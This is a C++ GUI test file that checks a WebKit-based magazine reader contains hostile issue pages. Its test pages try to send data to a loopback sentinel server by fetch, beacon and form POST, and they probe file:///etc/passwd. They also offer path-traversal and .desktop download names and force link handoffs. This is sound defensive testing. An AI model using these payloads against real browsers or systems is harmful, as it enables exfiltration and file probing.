// What the pages of an issue may make the reader do, tried with hostile pages under Xvfb: a
// loopback server that nothing may reach, a name server that no name may reach, a logging stand-in
// for xdg-open, and a test $HOME in which nothing of the engine may appear. And names written as
// on a system that ignores case.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>

#include "tests/gui/ReaderWindow.h"
#include "tests/gui/Sentinels.h"

namespace fs = std::filesystem;

namespace {
using namespace gui;

// A home of the test's own, set before the toolkit reads it.
const std::string TestHome = [] {
  std::string name = (fs::temp_directory_path() / "folivo-home-XXXXXX").string();
  const std::string home = mkdtemp(name.data());
  setenv("HOME", home.c_str(), 1);
  for (const char* variable : {"XDG_DATA_HOME", "XDG_CACHE_HOME", "XDG_CONFIG_HOME"}) unsetenv(variable);
  return home;
}();
TLoggingResolver resolver;  // before any thread
const TReaderSession* const session = AddReaderSession("gui_IssuePages");

class IssuePages : public ReaderWindowTest {
 protected:
  // An issue made of the given files, zipped in the order given.
  std::string MakeIssue(const std::string& name,
                        const std::vector<std::pair<std::string, std::string>>& files) {
    const std::string tree = folder / name;
    std::string names;
    for (const auto& [file, content] : files) {
      fs::create_directories(fs::path(tree + "/" + file).parent_path());
      WriteBytes(tree + "/" + file, content);
      names += " '" + file + "'";
    }
    const std::string archive = folder / (name + ".kvx");
    EXPECT_EQ(std::system(("cd '" + tree + "' && zip -q '" + archive + "'" + names).c_str()), 0);
    return archive;
  }
  // Opens an issue, with no look at the history or the index's title.
  ::testing::AssertionResult OpenFramedIssue(const std::string& file) {
    backend.openDialogAnswers.push_back(file);
    Form().Apri1Click();
    if (!Shows(Korvex("index.htm"))) return ::testing::AssertionFailure() << "index.htm never shown";
    if (Shown("MessageBox") + Shown("ShowMessage") > 0) return ::testing::AssertionFailure() << "reported";
    return ::testing::AssertionSuccess();
  }
  // Waits for the script expression to give the value.
  bool ScriptGives(const std::string& expression, const std::string& value) {
    return PumpUntil([&] { return Script(expression) == value; }, ScriptDeadline);
  }
  // Counts the ends of the page view's web process that the reader did not ask for.
  void CountWebProcessEnds(const std::shared_ptr<int>& ends) {
    g_signal_connect_data(
        Page().Engine(), "web-process-terminated",
        G_CALLBACK(+[](WebKitWebView*, WebKitWebProcessTerminationReason reason, gpointer count) {
          if (reason != WEBKIT_WEB_PROCESS_TERMINATED_BY_API) ++**static_cast<std::shared_ptr<int>*>(count);
        }),
        new std::shared_ptr<int>(ends),
        [](gpointer count, GClosure*) { delete static_cast<std::shared_ptr<int>*>(count); },
        GConnectFlags(0));
  }
  // No connection ever reached the server, and no name was looked up since the last look.
  ::testing::AssertionResult NothingReached(const TSentinelServer& server) {
    std::string names;
    const int lookups = resolver.Lookups(names);
    if (server.Connections() > 0)
      return ::testing::AssertionFailure() << server.Connections() << " connections";
    if (resolver.Installed() && lookups > 0) return ::testing::AssertionFailure() << "looked up: " << names;
    return ::testing::AssertionSuccess();
  }

  // The desktop's launcher as the reader starts it, first on the path until the test ends: it
  // writes each address it is given on a line of HandedOff(), and ends with the status given.
  void LogHandOffs(int status = 0) {
    fs::create_directory(folder / "bin");
    WriteBytes(folder / "bin/xdg-open", "#!/bin/sh\necho \"$1\" >> '" + folder / "handed-off.log" +
                                            "'\nexit " + std::to_string(status) + "\n");
    fs::permissions(folder / "bin/xdg-open", fs::perms::owner_all);
    path = std::getenv("PATH");
    setenv("PATH", (folder / "bin:" + path).c_str(), 1);
  }
  std::string HandedOff() const {
    return fs::exists(folder / "handed-off.log") ? ReadBytes(folder / "handed-off.log") : std::string();
  }
  void TearDown() override {
    if (!path.empty()) setenv("PATH", path.c_str(), 1);
    ReaderWindowTest::TearDown();
  }

  TTempFolder folder;
  std::string path;  // as it was before LogHandOffs
};

TEST_F(IssuePages, HostilePagesReachNoServerNoOutsideFileAndHandNothingOff) {
  TSentinelServer server;
  const std::string web = server.Address();
  LogHandOffs();

  const std::string reachOut =
      "<img src='" + web + "/img'><script src='" + web + "/script.js'></script>" +
      "<link rel=stylesheet href='" + web + "/style.css'><audio src='" + web + "/audio' autoplay></audio>" +
      "<iframe src='" + web + "/frame'></iframe><iframe src='refresh.htm'></iframe>" + "<script>fetch('" +
      web + "/fetch', {method: 'POST', body: 'x'}).catch(() => {});" + "navigator.sendBeacon('" + web +
      "/beacon', 'x');" + "var x = new XMLHttpRequest(); x.open('GET', '" + web + "/xhr'); x.send();" +
      "try { new WebSocket('ws://127.0.0.1:" + std::to_string(server.Port()) + "/ws'); } catch (e) {}" +
      "try { new EventSource('" + web + "/events'); } catch (e) {}</script>";
  // Connections and lookups ahead of any request: none may be made either.
  const std::string ahead =
      "<link rel=dns-prefetch href='//dns-prefetch.sentinel.test'>"
      "<link rel=preconnect href='http://preconnect.sentinel.test/'>"
      "<link rel=preconnect href='" +
      web + "/'><link rel=prefetch href='" + web + "/prefetch'><link rel=preload as=script href='" + web +
      "/preload.js'>"
      "<a href='http://link.sentinel.test/'>link</a>";
  // Whether a file outside the issue exists must not show: both probes end alike.
  const std::string probes =
      "<script>var probes = {};</script>"
      "<script src='file:///etc/passwd' onload=\"probes.there='loaded'\" onerror=\"probes.there='error'\">"
      "</script><script src='file:///nothing/here' onload=\"probes.none='loaded'\" "
      "onerror=\"probes.none='error'\"></script>";
  const std::string buttons =
      "<button id=many style='position:fixed;left:0;top:0;width:100%;height:100px' onclick=\"for (var i = 0; "
      "i < 20; ++i) document.getElementById('out').click()\">many</button>"
      "<button id=opener style='position:fixed;left:0;top:150px;width:100%;height:100px' "
      "onclick=\"window.open('second.htm')\">open</button>"
      "<a id=out target=_blank href='" +
      web + "/clicked'>out</a><a id=same href='" + web +
      "/same'>same</a>"
      "<form id=form action='" +
      web + "/form' method=post><input name=secret value=s></form>";
  const std::string issue =
      MakeIssue("ostile", {{"index.htm", "<html><head><title>Ostile</title>" + ahead + "</head><body>" +
                                             reachOut + probes + buttons + "</body></html>"},
                           {"refresh.htm", "<meta http-equiv=refresh content='0;url=" + web + "/refresh'>"},
                           {"second.htm", "<title>Seconda</title>"}});
  ASSERT_TRUE(OpenFramedIssue(issue));
  Pump(2000);
  const int visits = History().Count();
  EXPECT_TRUE(ScriptGives("JSON.stringify(probes)", "{\"there\":\"error\",\"none\":\"error\"}"));

  // Navigations no click started, to the web or to files outside the issue, go nowhere and are
  // not recorded.
  for (const std::string& away :
       {"location = '" + web + "/location'", std::string("document.getElementById('form').submit()"),
        std::string("document.getElementById('same').click()"), std::string("location = 'file:///etc/'"),
        std::string("location = 'file:///etc/passwd'")}) {
    Script(away);
    Pump(1000);
    EXPECT_EQ(ShownAddress(), Korvex("index.htm")) << away;
  }
  EXPECT_EQ(History().Count(), visits);

  // A real click on a button whose handler clicks a web link twenty times: the user activated no
  // link.
  ClickPage(200, 50);
  Pump(2000);
  EXPECT_EQ(HandedOff(), "");

  // A click whose handler opens a page of the issue in a new window: it opens here.
  ClickPage(200, 200);
  EXPECT_TRUE(Shows(Korvex("second.htm")));
  EXPECT_EQ(History().Entry(History().Index()), Korvex("second.htm"));
  EXPECT_EQ(Script("document.title"), "Seconda");

  Pump(1000);
  EXPECT_TRUE(NothingReached(server));
}

// Only a link the user activates, by a click on it or by Enter while it has the focus, goes to the
// desktop, once: web and mail addresses alike. Keys that the page turns into window.open, held or
// not, and a button whose handler sets location hand nothing off.
TEST_F(IssuePages, OnlyALinkTheUserActivatesIsHandedOffOnce) {
  LogHandOffs();
  const std::string issue = MakeIssue("tasti", {{"index.htm", R"(<title>Tasti</title>
<style>body { height: 5000px } .bar { position: fixed; left: 0; width: 100%; height: 60px }</style>
<script>onkeydown = e => window.open('http://example.org/key-' + e.key);</script>
<button class=bar style='top:0' onclick="location = 'http://example.org/button'">button</button>
<a id=web class=bar style='top:100px' href='http://example.org/link'>web</a>
<a class=bar style='top:200px' href='mailto:redazione@example.org'>mail</a>
<a class=bar style='top:300px' href='http://example.org/new' target=_new>new</a>)"}});
  ASSERT_TRUE(OpenIssue(issue, "Tasti"));
  View()->SetFocus();
  ASSERT_TRUE(PumpUntil([&] { return wxWindow::FindFocus() == View(); }));
  Keys("Next Down Up space End Home");
  Keys("--repeat 30 --delay 20 Down");
  ClickPage(200, 30);
  Pump(2000);
  EXPECT_EQ(HandedOff(), "");

  // Each activation adds its link's address, once.
  std::string seen;
  const auto handedOffSince = [&] {
    PumpUntil([&] { return HandedOff() != seen; }, ScriptDeadline);
    Pump(1000);
    const std::string all = HandedOff(), added = all.substr(std::min(seen.size(), all.size()));
    seen = all;
    return added;
  };
  ClickPage(200, 130);
  EXPECT_EQ(handedOffSince(), "http://example.org/link\n");
  ClickPage(200, 230);
  EXPECT_EQ(handedOffSince(), "mailto:redazione@example.org\n");
  ClickPage(200, 330);
  EXPECT_EQ(handedOffSince(), "http://example.org/new\n");
  // Tab moves the focus through the page: the button, then the link.
  Script("document.activeElement.blur()");
  Keys("Tab Tab");
  EXPECT_EQ(Script("document.activeElement.id"), "web");
  Keys("Return");
  EXPECT_EQ(handedOffSince(), "http://example.org/link\n");
}

// xdg-open ends with 3 when the desktop has no program for the address.
TEST_F(IssuePages, ALinkThatNoProgramOpensIsToldWithItsAddress) {
  LogHandOffs(3);
  const std::string issue = MakeIssue("altrove", {{"index.htm", R"(<title>Altrove</title>
<a style='position: fixed; top: 0; left: 0; width: 100%; height: 60px' href='http://example.org/via'>via</a>)"}});
  ASSERT_TRUE(OpenIssue(issue, "Altrove"));
  ClickPage(200, 30);
  ASSERT_TRUE(PumpUntil([&] { return Shown("ShowMessage") == 1; }, ScriptDeadline));
  EXPECT_EQ(backend.shown.back().text, "No program of the desktop could open http://example.org/via.");
}

// A worker takes its content policy from the response that delivered its script: dedicated,
// shared and nested workers, and one started in a frame, reach no server and look up no name.
TEST_F(IssuePages, WorkersReachNoServerAndLookUpNoName) {
  TSentinelServer server;
  // Every way a script reaches a server, tagged with what runs it.
  std::string reach = R"(function reach(tag) {
  fetch('http://SERVER/fetch-' + tag).catch(() => {});
  fetch('http://' + tag + '.sentinel.test/').catch(() => {});
  try { var x = new XMLHttpRequest(); x.open('GET', 'http://SERVER/xhr-' + tag); x.send(); } catch (e) {}
  try { new WebSocket('ws://SERVER/ws-' + tag); } catch (e) {}
  try { new EventSource('http://SERVER/events-' + tag); } catch (e) {}
}
)";
  const std::string address = "127.0.0.1:" + std::to_string(server.Port());
  for (std::size_t at; (at = reach.find("SERVER")) != std::string::npos;) reach.replace(at, 6, address);
  const std::string issue = MakeIssue(
      "lavoratori",
      {{"index.htm",
        "<title>Lavoratori</title><iframe src=frame.htm></iframe><script>var up = [];"
        "var w = new Worker('worker.js'); w.onmessage = e => up.push(e.data);"
        "var s = new SharedWorker('shared.js'); s.port.onmessage = e => up.push(e.data);</script>"},
       {"frame.htm",
        "<script>var w = new Worker('worker.js?frame'); w.onmessage = e => parent.up.push(e.data);"
        "</script>"},
       {"worker.js", reach + "; var tag = location.search ? 'frame' : 'worker'; reach(tag); "
                             "postMessage(tag);"
                             "if (!location.search) { var n = new Worker('nested.js'); n.onmessage = e => "
                             "postMessage(e.data); }"},
       {"nested.js", reach + "; reach('nested'); postMessage('nested');"},
       {"shared.js", reach + "; onconnect = e => { reach('shared'); e.ports[0].postMessage('shared'); "
                             "};"}});
  ASSERT_TRUE(OpenFramedIssue(issue));
  EXPECT_TRUE(ScriptGives("JSON.stringify(up.sort())", "[\"frame\",\"nested\",\"shared\",\"worker\"]"));
  Pump(2000);
  EXPECT_TRUE(NothingReached(server));
}

// Everything under a folder, one path a line.
std::string Contents(const std::string& folder) {
  std::string paths;
  for (const auto& entry : fs::recursive_directory_iterator(folder)) paths += entry.path().string() + "\n";
  return paths;
}

// Downloads a page offers, by a script on its own and by a link the user clicks, under names that
// would start a program or hold a "/": nothing is written, with no download folder and with one,
// and the page's web process lives on.
TEST_F(IssuePages, DownloadsAreRefusedBeforeAnythingIsWritten) {
  const std::string issue = MakeIssue(
      "scarica", {{"index.htm",
                   "<title>Scarica</title><a style='position:fixed;left:0;top:0;width:100%;height:100px' "
                   "href='data:application/x-desktop,[Desktop Entry]%0AType=Application%0AExec=xterm%0A' "
                   "download='avvia.desktop'>scarica</a><script>function offer(name) { var a = "
                   "document.createElement('a');"
                   " a.href = 'data:text/plain,x'; a.download = name; document.body.appendChild(a); "
                   "a.click(); }</script>"}});
  const auto ended = std::make_shared<int>(0);
  for (const bool downloadFolder : {false, true}) {
    SCOPED_TRACE(downloadFolder ? "with a download folder" : "with an empty home");
    std::string made;
    if (downloadFolder) {
      fs::create_directories(TestHome + "/.config");
      fs::create_directories(TestHome + "/Downloads");
      WriteBytes(TestHome + "/.config/user-dirs.dirs", "XDG_DOWNLOAD_DIR=\"$HOME/Downloads\"\n");
      g_reload_user_special_dirs_cache();
      made = Contents(TestHome);
    }
    ASSERT_TRUE(OpenIssue(issue, "Scarica"));
    CountWebProcessEnds(ended);
    Script("offer('script.desktop'); offer('../script.desktop'); offer('a/b.txt')");
    ClickPage(200, 50);
    Pump(2000);
    EXPECT_EQ(Contents(TestHome), made);
    EXPECT_EQ(Script("document.title"), "Scarica");
    EXPECT_EQ(*ended, 0);
  }
}

TEST_F(IssuePages, NothingOfTheEngineIsKeptBetweenRunsOrUnderHome) {
  const std::string issue =
      MakeIssue("memoria", {{"index.htm", "<title>Memoria</title>"}, {"altra.htm", "<title>Altra</title>"}});
  ASSERT_TRUE(OpenIssue(issue, "Memoria"));
  EXPECT_EQ(Script("localStorage.setItem('k', 'kept'); localStorage.getItem('k')"), "kept");
  Script("indexedDB.open('db', 1).onupgradeneeded = e => e.target.result.createObjectStore('s')");
  Pump(500);

  // The next run, as a new window is one: the same issue finds nothing of the last.
  TearDown();
  SetUp();
  ASSERT_TRUE(OpenIssue(issue, "Memoria"));
  EXPECT_EQ(Script("String(localStorage.getItem('k'))"), "null");
  TearDown();

  std::string kept;
  for (const auto& entry : fs::recursive_directory_iterator(TestHome)) kept += entry.path().string() + "\n";
  EXPECT_EQ(kept, "");
}

TEST_F(IssuePages, NamesWrittenInAnotherCaseFindTheFilesAsStored) {
  const std::string picture = ReadBytes(FOLIVO_SOURCE_DIR "/samples/issue-01/img/cover.png");
  WriteBytes(TempPath() + "segreto.htm", "<title>SEGRETO</title>");
  const std::string issue =
      MakeIssue("maiuscole",
                {{"INDEX.HTM",
                  "<html><head><title>Indice</title><link rel=stylesheet href='STILE/Stile.CSS'></head><body>"
                  "<img id=foto src='IMMAGINI/Foto.PNG'><iframe id=frame src='Articoli/PAGINA2.HTM'></iframe>"
                  "<iframe id=outside src='%2E%2E/segreto.htm'></iframe>"
                  "<a id=link href='ARTICOLI/pagina2.htm'>2</a><a id=exact href='aB.htm'>b</a>"
                  "<a id=other href='ab.htm'>b</a></body></html>"},
                 {"stile/stile.css", "body { color: rgb(1, 2, 3) }"},
                 {"immagini/foto.png", picture},
                 {"articoli/pagina2.htm", "<title>Pagina 2</title>"},
                 {"AB.htm", "<title>AB</title>"},
                 {"aB.htm", "<title>aB</title>"}});
  ASSERT_TRUE(OpenFramedIssue(issue));
  EXPECT_TRUE(ScriptGives("getComputedStyle(document.body).color", "rgb(1, 2, 3)"));
  EXPECT_TRUE(ScriptGives("document.getElementById('foto').naturalWidth > 0", "true"));
  EXPECT_TRUE(ScriptGives("document.getElementById('frame').contentDocument.title", "Pagina 2"));
  EXPECT_NE(Script("document.getElementById('outside').contentDocument.title"), "SEGRETO");

  // The index as INDEX finds it; a link records the name the page asked for.
  Form().SpeedButton1Click();
  EXPECT_TRUE(Shows(Korvex("index.htm")));
  EXPECT_EQ(Shown("MessageDlg"), 0);
  Script("document.getElementById('link').click()");
  EXPECT_TRUE(Shows(Korvex("ARTICOLI/pagina2.htm")));
  EXPECT_EQ(Script("document.title"), "Pagina 2");

  // Of two names that differ in case only, the exact one; else the first in the archive.
  for (const auto& [link, title] : {std::pair{"exact", "aB"}, std::pair{"other", "AB"}}) {
    Form().SpeedButton1Click();
    ASSERT_TRUE(Shows(Korvex("index.htm")));
    Script(std::string("document.getElementById('") + link + "').click()");
    EXPECT_TRUE(PumpUntil([&] { return Script("document.title") == title; }, PageDeadline)) << link;
  }
  fs::remove(TempPath() + "segreto.htm");
}
}  // namespace
